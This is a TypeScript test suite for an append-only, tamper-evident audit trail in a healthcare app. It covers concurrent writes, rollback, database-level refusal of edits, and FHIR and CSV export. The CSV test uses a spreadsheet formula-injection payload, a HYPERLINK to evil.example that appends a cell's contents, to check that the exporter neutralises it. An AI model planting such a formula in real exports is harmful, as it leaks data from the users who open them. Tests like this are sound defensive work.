import type { AuditEntry, AuditEntryInput } from '@caredesk/core';
import { loadFhirSchema } from '@caredesk/interop/fhir-testing';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Engine } from '../storage/database';
import { openDatabase } from '../storage/database';
import { createTestDatabase, type TestDatabase } from '../storage/testing/test-database';
import { auditCsv } from './audit-csv';
import { auditFhirBundleJson } from './audit-export';
import { AuditQueries } from './audit-queries';
import { describeAuditQueries } from './audit-queries.contract';
import { AuditStore } from './audit-store';
import { verifyAuditTrail } from './audit-verify';
import { prng, sampleEntry, testMac } from './testing/audit-fixtures';
import { runTrial, tamperTrials } from './testing/audit-tamper';

async function collect<T>(it: AsyncIterable<T>): Promise<T[]> {
  const out: T[] = [];
  for await (const x of it) out.push(x);
  return out;
}

/** A small RFC 4180 reader, to prove the writer's quoting round-trips. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      record.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else field += c;
  }
  return records;
}

/**
 * The audit storage contract: the same behaviour on SQLite and PostgreSQL. Run by
 * audit.contract.test.ts (embedded) and audit.contract.pg.test.ts (needs DATABASE_URL).
 */
export function describeAuditContract(engine: Engine): void {
  describe(`audit trail contract (${engine})`, () => {
    let t: TestDatabase;
    let store: AuditStore;
    const head = () =>
      t.database.db.selectFrom('audit_chain_head').selectAll().executeTakeFirstOrThrow();
    const count = async () =>
      Number(
        (await sql<{ n: number }>`SELECT COUNT(*) AS n FROM audit_entries`.execute(t.database.db))
          .rows[0]?.n,
      );

    beforeAll(async () => {
      t = await createTestDatabase(engine);
      store = new AuditStore(t.database, testMac);
    });
    afterAll(async () => {
      await store.close();
      await t.dispose();
    });

    it('starts with an unsealed head and an empty, intact trail', async () => {
      expect(await head()).toMatchObject({ id: 1, seq: 0, mac: '' });
      expect(await verifyAuditTrail(t.database, testMac)).toMatchObject({ ok: true, count: 0 });
    });

    it('appends in the caller transaction: a rollback leaves no entry and the head unchanged', async () => {
      const before = await head();
      await expect(
        t.database.db.transaction().execute(async (trx) => {
          await store.appendInTransaction(trx, [sampleEntry(1), sampleEntry(2)]);
          expect(
            Number(
              (await trx.selectFrom('audit_chain_head').select('seq').executeTakeFirstOrThrow())
                .seq,
            ),
          ).toBe(Number(before.seq) + 2);
          throw new Error('the change failed');
        }),
      ).rejects.toThrow('the change failed');
      expect(await head()).toEqual(before);
      expect(await count()).toBe(0);

      await t.database.db
        .transaction()
        .execute((trx) => store.appendInTransaction(trx, [sampleEntry(3)]));
      expect(await count()).toBe(1);
      expect(await head()).toMatchObject({ seq: 1 });
    });

    it('group-commits 500 concurrent record() calls into consecutive seqs that verify', async () => {
      const start = Number((await head()).seq);
      const flushesBefore = store.stats.flushes;
      await Promise.all(Array.from({ length: 500 }, (_, i) => store.record(sampleEntry(100 + i))));
      const rows = await t.database.db
        .selectFrom('audit_entries')
        .select('seq')
        .where('seq', '>', start)
        .orderBy('seq')
        .execute();
      expect(rows.map((r) => Number(r.seq))).toEqual(
        Array.from({ length: 500 }, (_, i) => start + 1 + i),
      );
      expect(store.stats.flushes - flushesBefore).toBeLessThan(10);
      expect(await verifyAuditTrail(t.database, testMac)).toMatchObject({
        ok: true,
        count: start + 500,
      });
    });

    it('keeps one chain when two server processes write at once', async () => {
      const second = await openDatabase(t.config);
      const other = new AuditStore(second, testMac);
      try {
        const start = Number((await head()).seq);
        await Promise.all(
          Array.from({ length: 200 }, (_, i) => (i % 2 ? store : other).record(sampleEntry(i))),
        );
        expect(Number((await head()).seq)).toBe(start + 200);
        expect(await verifyAuditTrail(t.database, testMac)).toMatchObject({
          ok: true,
          count: start + 200,
        });
      } finally {
        await other.close();
        await second.close();
      }
    });

    it('rejects every entry of a failed commit and keeps the head in step', async () => {
      // A real database failure: a trigger refusing one entry, as a full disk would.
      if (engine === 'sqlite') {
        await sql`CREATE TRIGGER audit_test_boom BEFORE INSERT ON audit_entries WHEN NEW.detail = 'boom'
          BEGIN SELECT RAISE(ABORT, 'boom'); END`.execute(t.database.db);
      } else {
        await sql`CREATE FUNCTION audit_test_boom() RETURNS trigger LANGUAGE plpgsql AS $$
          BEGIN IF NEW.detail = 'boom' THEN RAISE EXCEPTION 'boom'; END IF; RETURN NEW; END $$`.execute(
          t.database.db,
        );
        await sql`CREATE TRIGGER audit_test_boom BEFORE INSERT ON audit_entries
          FOR EACH ROW EXECUTE FUNCTION audit_test_boom()`.execute(t.database.db);
      }
      try {
        const before = await head();
        const results = await Promise.allSettled([
          store.record(sampleEntry(1)),
          store.record(sampleEntry(2, { detail: 'boom' })),
          store.record(sampleEntry(3)),
        ]);
        expect(results.map((r) => r.status)).toEqual(['rejected', 'rejected', 'rejected']);
        expect(await head()).toEqual(before);
        await store.record(sampleEntry(4));
        expect(Number((await head()).seq)).toBe(Number(before.seq) + 1);
      } finally {
        await sql`DROP TRIGGER audit_test_boom${engine === 'postgres' ? sql` ON audit_entries` : sql``}`.execute(
          t.database.db,
        );
      }
      expect(await verifyAuditTrail(t.database, testMac)).toMatchObject({ ok: true });
      await expect(
        store.record({ ...sampleEntry(5), action: 'peek' as AuditEntryInput['action'] }),
      ).rejects.toThrow(/unknown audit action/);
    });

    it('refuses UPDATE and DELETE of entries in the database itself', async () => {
      await expect(
        sql`UPDATE audit_entries SET actor_name = 'x' WHERE seq = 1`.execute(t.database.db),
      ).rejects.toThrow(/append-only: UPDATE refused/);
      await expect(
        sql`DELETE FROM audit_entries WHERE seq = 1`.execute(t.database.db),
      ).rejects.toThrow(/append-only: DELETE refused/);
      await expect(sql`DELETE FROM audit_entries`.execute(t.database.db)).rejects.toThrow(
        /append-only/,
      );
      if (engine === 'postgres') {
        await expect(sql`TRUNCATE audit_entries`.execute(t.database.db)).rejects.toThrow(
          /append-only: TRUNCATE refused/,
        );
      }
      await expect(sql`UPDATE audit_chain_head SET seq = 0`.execute(t.database.db)).rejects.toThrow(
        /only moves forward/,
      );
      await expect(sql`DELETE FROM audit_chain_head`.execute(t.database.db)).rejects.toThrow(
        /audit_chain_head/,
      );
      expect(await verifyAuditTrail(t.database, testMac)).toMatchObject({ ok: true });
    });

    describeAuditQueries(() => ({ t, store }));

    it('exports CSV with RFC 4180 quoting and formula injection neutralised', async () => {
      const hostile = sampleEntry(0, {
        patientId: 'pat-csv',
        actorName: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        userAgent: 'line one\r\nline two, with "quotes"',
        detail: '+SUM(1,2)',
        resourceId: '@cmd',
        sourceAddress: '-2+3',
      });
      await store.record(hostile);
      const text = (
        await collect(auditCsv(new AuditQueries(t.database.db).stream({ patientId: 'pat-csv' })))
      ).join('');
      const records = parseCsv(text);
      expect(records).toHaveLength(2);
      const [header, row] = records as [string[], string[]];
      const cell = (name: string) => row[header.indexOf(name)];
      expect(cell('actor_name')).toBe(`'${hostile.actorName}`);
      expect(cell('user_agent')).toBe(hostile.userAgent);
      expect(cell('detail')).toBe("'+SUM(1,2)");
      expect(cell('resource_id')).toBe("'@cmd");
      expect(cell('source_address')).toBe("'-2+3");
      expect(cell('actor_roles')).toBe('clinician');
      expect(text).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"');
    });

    it('exports FHIR AuditEvents that validate against the R4 schema', async () => {
      const schema = loadFhirSchema();
      const entries: AuditEntry[] = await collect(new AuditQueries(t.database.db).stream({}));
      const json = (
        await collect(auditFhirBundleJson(entries, { timestamp: '2026-03-02T00:00:00Z' }))
      ).join('');
      const bundle = JSON.parse(json) as {
        type: string;
        entry: { resource: { resourceType: string } }[];
      };
      expect(bundle.type).toBe('collection');
      expect(bundle.entry).toHaveLength(entries.length);
      expect(schema.errors(bundle)).toEqual([]);
      const empty = JSON.parse(
        (await collect(auditFhirBundleJson([], { timestamp: '2026-03-02T00:00:00Z' }))).join(''),
      );
      expect(empty).not.toHaveProperty('entry');
      expect(schema.errors(empty)).toEqual([]);
    });

    it('detects tampering made directly in the database (a sample on this engine)', async () => {
      const rows = await collect(new AuditQueries(t.database.db).stream({}));
      const random = prng(20260301);
      const trials = tamperTrials(rows, 60, 20260301, random);
      const failures: string[] = [];
      for (const trial of trials) {
        const outcome = await runTrial(t.database, trial);
        if (!outcome.passed)
          failures.push(`${trial.describe} -> ${JSON.stringify(outcome.result)}`);
      }
      expect(failures).toEqual([]);
      // Every trial was rolled back: the trail is intact again and the triggers are back.
      expect(await verifyAuditTrail(t.database, testMac)).toMatchObject({ ok: true });
      await expect(
        sql`DELETE FROM audit_entries WHERE seq = 1`.execute(t.database.db),
      ).rejects.toThrow(/append-only/);
    });
  });
}
